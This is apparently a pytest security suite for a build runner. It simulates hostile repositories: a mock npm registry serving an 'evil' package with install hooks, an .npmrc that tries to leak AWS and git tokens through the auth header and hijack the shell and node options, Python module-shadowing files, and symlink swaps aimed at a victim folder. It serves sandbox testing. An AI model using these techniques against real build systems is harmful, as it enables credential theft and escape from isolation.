"""What an attacker tells npm, where Python looks for modules, and the folders of the runner: none of it leads to the runner."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import pwd
import subprocess
import sys
import tarfile
import threading
import uuid
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from support.attacker import PERSON, Attacker, as_person, cold_start
from support.harness import PLAIN

SECRET = "npm_Qk7Rw2Zt9Lx4Vb1Nc8Md3Pf6"
MADE = "\nmkdir -p dist; echo 1 >dist/index.html"


# --- npm --------------------------------------------------------------------------------------------------------

# Tells, one line each time, who runs it: uid, capabilities, no new privileges, whether the folder above the workspace could
# be written, names in the environment.
LOOK = r"""#!/bin/sh
outside=refused
(echo x >"$HOME/../../from-$1") 2>/dev/null && outside=written
capabilities=$(sed -n 's/^CapEff:[[:space:]]*//p' /proc/self/status)
privileges=$(sed -n 's/^NoNewPrivs:[[:space:]]*//p' /proc/self/status)
names=$(env | sed -n 's/^\([A-Za-z_][A-Za-z0-9_]*\)=.*/\1/p' | tr '\n' ' ')
echo "$1|$(id -u)|$capabilities|$privileges|$outside|$names" >>"$HOME/../repository/seen"
"""


class Registry:
    """A registry of an attacker's, which keeps what it was asked and with which headers."""

    def __init__(self, origin: str, package: bytes) -> None:
        self.origin = origin
        self.package = package
        self.integrity = "sha512-" + base64.b64encode(hashlib.sha512(package).digest()).decode()
        self.requests: list[tuple[str, Mapping[str, str]]] = []


@contextmanager
def registry(host: str) -> Iterator[Registry]:
    """Serve one package, `evil`, whose scripts look around."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            served.requests.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
            self.send_response(200)
            self.send_header("Content-Length", str(len(served.package)))
            self.end_headers()
            self.wfile.write(served.package)

        def do_POST(self) -> None:
            self.do_GET()

        def log_request(self, code: object = "-", size: object = "-") -> None:
            """Keep silent; `requests` has it all."""

    scripts = {name: f"sh ./look.sh dependency-{name}" for name in ("preinstall", "install", "postinstall")}
    files = {"package.json": json.dumps({"name": "evil", "version": "1.0.0", "scripts": scripts}), "look.sh": LOOK}
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"package/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    with ThreadingHTTPServer((host, 0), Handler) as server:
        served = Registry(f"http://{host}:{server.server_address[1]}", packed.getvalue())
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield served
        finally:
            server.shutdown()
            thread.join()


def test_npm_settings_of_a_repository_get_no_secret_and_no_root(attacker: Attacker) -> None:
    names = [
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        "REDIS_URI",
        "GIT_TOKEN",
    ]
    names += ["INSTALL_ENV_NPM_TOKEN", "ECS_CONTAINER_METADATA_URI_V4", "REPO_URL"]
    app = "${HOME}/../repository"
    with registry(str(urlsplit(attacker.program.s3.endpoint).hostname)) as asked:
        npmrc = f"""
registry={asked.origin}/
{asked.origin.removeprefix("http:")}/:_authToken=token.{".".join(f"${{{name}}}" for name in names)}
script-shell={app}/evil-shell.sh
node-options=--require {app}/evil.js
ignore-scripts=false
audit=true
audit-level=none
prefix={app}/prefix
cache={app}/../cache
userconfig={app}/evil.npmrc
globalconfig={app}/evil-global.npmrc
git={app}/evil-git.sh
loglevel=http
"""
        scripts = {"build": "sh build.sh"}
        for name in ("preinstall", "install", "postinstall", "prepare", "prebuild", "postbuild"):
            scripts[name] = f"sh ./look.sh {name}"
        package = {"name": "app", "version": "1.0.0", "scripts": scripts, "dependencies": {"evil": "1.0.0"}}
        evil = {"version": "1.0.0", "resolved": f"{asked.origin}/evil/-/evil-1.0.0.tgz", "hasInstallScript": True}
        root = {key: package[key] for key in ("name", "version", "dependencies")} | {"hasInstallScript": True}
        packages = {"": root, "node_modules/evil": {**evil, "integrity": asked.integrity}}
        lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages}
        look_js = (
            "require('child_process').spawnSync('/bin/sh', [__dirname + '/look.sh', 'node-options'],"
            " { env: { ...process.env, NODE_OPTIONS: '' } })\n"
        )
        path = attacker.repositories.app(
            f"sh ./look.sh build; node -e 0{MADE}; cp seen dist/seen",
            **{
                ".npmrc": npmrc,
                "package.json": json.dumps(package),
                "package-lock.json": json.dumps(lock),
                "look.sh": LOOK,
                "evil.js": look_js,
                "evil.npmrc": "ignore-scripts=false\n",
                "evil-global.npmrc": "ignore-scripts=false\n",
            },
        )
        for name in ("shell", "git"):
            program = path / f"evil-{name}.sh"
            program.write_text(f'#!/bin/sh\nsh "$HOME/../repository/look.sh" {name}\nexec /bin/sh "$@"\n')
            program.chmod(0o755)
        attacker.repositories.commit(path, {})
        variables: dict[str, Any] = {"GIT_TOKEN": SECRET, "INSTALL_ENV_NPM_TOKEN": SECRET, "BUILD_ENV_PUBLIC": "1"}

        run = attacker.program.run(attacker.url(path), **variables)

        given = attacker.program.environment(None, **variables)
        assert run.code == 0, run.stdout[-3000:]
        assert any(path.endswith(".tgz") for path, _ in asked.requests)
        assert any("authorization" in headers for _, headers in asked.requests)
        for path_, headers in asked.requests:
            sent = f"{path_} {headers}"
            for name in names:
                if name in given and name != "REPO_URL":
                    assert given[name] not in sent, name
            # npm sends the name of a variable that there is not.
            assert "authorization" not in headers or "${AWS_SECRET_ACCESS_KEY}" in headers["authorization"]

    seen = [line.split("|") for line in attacker.site(run)["seen"]["body"].decode().splitlines()]
    hooks = {"preinstall", "install", "postinstall", "prepare", "prebuild", "build"}
    assert hooks | {"shell", "node-options", "dependency-postinstall"} <= {line[0] for line in seen}
    for who, uid, capabilities, privileges, outside, environment in seen:
        keys = set(environment.split())
        assert not keys & set(names), who
        assert not [key for key in keys if key.startswith(("AWS_", "ECS_", "BUILD_ENV_", "INSTALL_ENV_", "GIT_"))], who
        assert SECRET not in environment
        assert privileges == "1", who
        if attacker.is_another_user:
            assert int(uid) not in {0, os.geteuid()}, who
            assert int(capabilities, 16) == 0
            assert outside == "refused"
        else:  # without root the build is the runner's own user, and the folder above is that user's
            assert outside == "written"
    assert SECRET not in attacker.all_that_left(run)


# --- where Python looks for modules -----------------------------------------------------------------------------

MODULES = (
    "sitecustomize",
    "usercustomize",
    "redis",
    "hiredis",
    "botocore",
    "aiobotocore",
    "aiohttp",
    "anyio",
    "rich",
    "wrapt",
)
STANDARD = ("json", "ssl", "socket", "mimetypes", "zlib", "xml", "http")


def evil_module(name: str) -> str:
    return f"import os\nos.write(2, b'IMPORTED {name} ' + str(os.getuid()).encode() + b'\\n')\n"


@cold_start
def test_the_runner_never_imports_modules_that_a_build_leaves(
    attacker: Attacker,
) -> None:
    modules = {f"{name}.py": evil_module(name) for name in (*MODULES[:2], *MODULES[3:], *STANDARD)}
    modules |= {f"{name}/__init__.py": evil_module(name) for name in ("redis", "buildrunner", "buildrunner/s3")}
    modules["evil.pth"] = "import os; os.write(2, b'IMPORTED by a path file\\n')\n"
    in_image = attacker.place == "in the image"
    attack = r"""
const fs = require('fs'), path = require('path');
const { modules, closed, tmp } = JSON.parse(fs.readFileSync('attack.json'));
const home = process.env.HOME, site = version => `${home}/.local/lib/python3.${version}/site-packages`;
const own = ['.', '..', home, process.env.TMPDIR, ...[11, 12, 13, 14].map(site)].concat(tmp ? ['/tmp'] : []);
for (const folder of own)
  for (const [name, text] of Object.entries(modules)) {
    const file = path.join(folder, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, text);
  }
const listed = pattern => {  // the folders that a pattern with * names
  let found = ['/'];
  for (const part of pattern.split('/').slice(1))
    found = found.flatMap(folder => {
      let names = [part];
      if (part.includes('*'))
        try { names = fs.readdirSync(folder).filter(name => name.startsWith(part.slice(0, -1))); } catch { names = []; }
      return names.map(name => path.join(folder, name));
    });
  return found;
};
for (const folder of closed.flatMap(listed)) {
  const file = `${folder}/left-by-a-build-${process.pid}`;
  let answer;
  try { fs.writeFileSync(file, ''); fs.unlinkSync(file); answer = 'WRITTEN'; } catch (error) { answer = error.code; }
  console.log(`closed? ${folder} ${answer}`);
}
"""
    if in_image:
        closed = [
            "/opt/buildrunner/app",
            "/opt/buildrunner/app/buildrunner",
            "/opt/buildrunner/lib/python3*/site-packages",
        ]
        closed += [
            "/usr/local/lib/python3*",
            "/usr/local/lib/python3*/site-packages",
            "/usr/local/lib/python3*/lib-dynload",
            "/root",
        ]
    else:
        import buildrunner

        project = Path(buildrunner.__file__).parent
        places = [project, project / "site", *map(Path, sys.path)]
        closed = sorted({str(place.resolve()) for place in places if place.is_dir() and place.name != "tests"})
    given = json.dumps({"modules": modules, "closed": closed, "tmp": in_image})

    run = attacker.build("node attack.js" + MADE, {"attack.js": attack, "attack.json": given})

    assert run.code == 0, run.stdout + run.stderr
    assert "IMPORTED" not in run.stdout + run.stderr
    answers = [line.split()[1:] for line in run.lines if line.startswith("closed? ")]
    assert len(answers) >= len(closed)
    if attacker.is_another_user or os.geteuid() == 0:
        assert [folder for folder, answer in answers if answer == "WRITTEN"] == []
    else:  # without root the runner's own folders are the build's user's: nothing holds there
        assert {folder for folder, answer in answers if answer == "WRITTEN"} <= {
            f for f in closed if os.access(f, os.W_OK)
        }


def test_the_working_directory_is_no_import_path_of_the_runner(attacker: Attacker, open_folder: Path) -> None:
    if attacker.place == "in the image":
        pytest.skip("the image's entry point has -I, and its working directory is closed to builds")
    folder = open_folder / f"cwd-{uuid.uuid4().hex}"
    folder.mkdir()
    for name in MODULES[2:]:  # the first two are Python's own hooks, before any line of ours
        (folder / name).mkdir()
        (folder / name / "__init__.py").write_text(evil_module(name))
    for name in STANDARD:
        (folder / f"{name}.py").write_text(evil_module(name))
    command = [sys.executable, "-m", "buildrunner"]
    if not attacker.is_another_user and os.geteuid() == 0:
        command = [*as_person(), *command]
    environment = attacker.program.environment(attacker.push("true" + MADE), **PLAIN)

    done = subprocess.run(command, env=environment, cwd=folder, capture_output=True, text=True, check=False, timeout=90)

    assert "IMPORTED" not in done.stdout + done.stderr
    assert done.returncode == 0, done.stdout + done.stderr


# --- the runner's folders ---------------------------------------------------------------------------------------

TOUCH = r"""
const fs = require('fs');
const root = fs.realpathSync(process.env.HOME + '/../..');
const attempts = {
  'read the journal': () => fs.readFileSync(root + '/journal'),
  'write the journal': () => fs.closeSync(fs.openSync(root + '/journal', 'r+')),
  'read the tail': () => fs.readFileSync(root + '/tail'),
  'write the configuration of git': () => fs.closeSync(fs.openSync(root + '/gitconfig', 'r+')),
  'make a file': () => { fs.writeFileSync(root + '/made', ''); fs.unlinkSync(root + '/made'); },
  'move the workspace': () => { fs.renameSync(root + '/work', root + '/moved'); fs.renameSync(root + '/moved', root + '/work'); },
  'move the folder': () => { fs.renameSync(root, root + 'moved'); fs.renameSync(root + 'moved', root); },
};
for (const [name, attempt] of Object.entries(attempts)) {
  let answer = 'done';
  try { attempt(); } catch (error) { answer = error.code; }
  console.log(`${name}: ${answer}`);
}
console.log(`mode: ${(fs.statSync(root).mode & 0o7777).toString(8)}`);
console.log(`name: ${root}`);
"""


def test_the_build_cannot_read_or_guess_the_runners_files(attacker: Attacker) -> None:
    runs = [attacker.build("node attack.js" + MADE, {"attack.js": TOUCH}) for _ in range(2)]

    names = []
    for run in runs:
        assert run.code == 0, run.stdout
        answers = dict(line.split(": ", 1) for line in run.lines if ": " in line)
        assert answers.pop("mode") == "755"  # its names tell nothing, and Storybook reads every folder above its own
        names.append(answers.pop("name"))
        assert len(answers) == 7
        if attacker.is_another_user:
            assert set(answers.values()) <= {"EACCES", "EPERM"}, answers
        else:  # without root the runner's files are those of the build's user
            assert answers["read the journal"] == answers["write the configuration of git"] == "done"
    assert names[0] != names[1]
    assert all(len(Path(name).name) >= len("buildrunner-") + 8 for name in names)


def victim_of(attacker: Attacker, open_folder: Path) -> tuple[str, str]:
    """Return a folder that is not the build's to read, and the name of a folder in it."""
    if attacker.place == "in the image":
        return "/opt/buildrunner", "app"
    victim = open_folder / f"victim-{uuid.uuid4().hex}"
    (victim / "private-name" / "below").mkdir(parents=True)
    (victim / "private-name" / "index.html").write_text("precious")
    (victim / "private-name" / "below" / "file").write_text("precious")
    victim.chmod(0o700)
    if not attacker.is_another_user and os.geteuid() == 0:
        person = pwd.getpwnam(PERSON)
        for place in (victim, *victim.rglob("*")):
            os.chown(place, person.pw_uid, person.pw_gid)
    return str(victim), "private-name"


def state_of(folder: str) -> list[tuple[Any, ...]]:
    places = [Path(folder), *sorted(Path(folder).rglob("*"))]
    return [
        (str(place), status.st_mode, status.st_uid, status.st_size) for place in places for status in [place.lstat()]
    ]


def test_links_in_place_of_workspace_folders_lead_nowhere(attacker: Attacker, open_folder: Path) -> None:
    victim, name = victim_of(attacker, open_folder)
    before = state_of(victim) if attacker.place != "in the image" else []
    swap = f"cd ..; for folder in repository home tmp; do mv $folder old-$folder; ln -s {victim} $folder; done"

    for output in (name, ".", "nowhere"):
        run = attacker.build(swap, OUTPUT_DIR=output)

        assert run.code == 40, (output, run.stdout)
        assert attacker.site(run) == {}
        assert "precious" not in attacker.all_that_left(run)
        # Not even what there is in it may be told.
        assert "private-name" not in str(run.result) or output == name, run.result
        assert "Folders with pages: " not in run.result.get("hint", ""), run.result
        assert "Traceback" not in run.stderr
    if attacker.place != "in the image":
        assert state_of(victim) == before


def test_nothing_is_left_of_a_workspace_that_resists(attacker: Attacker, open_folder: Path) -> None:
    if attacker.place == "in the image":
        pytest.skip("a container's disk goes with it; nothing is deleted there")
    temporary = open_folder / f"tmp-{uuid.uuid4().hex}"
    temporary.mkdir()
    temporary.chmod(0o1777)
    resist = r"""
const fs = require('fs');
fs.mkdirSync('../home/closed/inner', { recursive: true });
fs.writeFileSync('../home/closed/inner/file', 'x');
fs.chmodSync('../home/closed/inner', 0);
fs.chmodSync('../home/closed', 0);
fs.writeFileSync(Buffer.from([0x2e, 0x2e, 0x2f, 0xff, 0x0a]), 'x');
for (let depth = 0; depth < 3000; depth++) { fs.mkdirSync('d'); process.chdir('d'); }
"""
    run = attacker.build(
        "mkdir dist; echo 1 >dist/index.html; node attack.js", {"attack.js": resist}, TMPDIR=str(temporary)
    )

    assert run.code == 0, run.stdout + run.stderr
    assert "Traceback" not in run.stderr
    left = sorted(str(place.relative_to(temporary)) for place in temporary.glob("*/*"))
    subprocess.run(["rm", "-rf", *temporary.iterdir()], check=False, capture_output=True)
    assert left == []
